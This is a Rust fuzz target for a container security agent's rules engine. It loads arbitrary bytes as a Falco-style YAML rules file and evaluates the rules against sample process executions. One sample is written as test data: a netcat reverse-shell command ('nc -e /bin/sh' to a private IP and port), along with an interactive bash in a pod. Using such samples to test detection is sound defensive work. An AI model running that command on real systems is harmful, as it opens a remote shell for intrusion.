//! A rules file of arbitrary bytes through the whole loader: YAML, items, overrides, list
//! and macro resolution, condition parsing and compilation, outputs; then every evaluable
//! rule runs on a few execs. Nothing may panic, and every error must carry a position.
//! Seeds: `youwatch-agent/rules/` and `youwatch-agent/tests/data/falco/`.

#![no_main]

use libfuzzer_sys::fuzz_target;
use youwatch_agent::rules::{
    Engine, LoadOptions, RuleMatching, RulesMetrics, load, sample::Exec, source::SourceFile,
};

fuzz_target!(|data: &[u8]| {
    let Ok(text) = std::str::from_utf8(data) else {
        return;
    };
    let set = load(&[SourceFile::new("fuzz.yaml", text.to_owned())], &LoadOptions::default());
    for e in &set.diagnostics.errors {
        let _ = e.to_string();
    }
    let _ = set.unsupported_warnings();
    if !set.diagnostics.errors.is_empty() {
        return;
    }
    let engine = Engine::new(&set, RuleMatching::All, Vec::new(), "node".into(), RulesMetrics::default());
    for exec in [
        Exec::new(["bash", "-i"]).ancestor(["runc"]).tty(34816).pod("ns", "juice-shop-1").build(),
        Exec::new(["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]).ancestor(["node", "app.js"]).build(),
        Exec::new(Vec::<String>::new()).build(),
    ] {
        for d in engine.evaluate(&exec) {
            let _ = youwatch_agent::telemetry::alert::to_json(&d, "node");
        }
    }
});
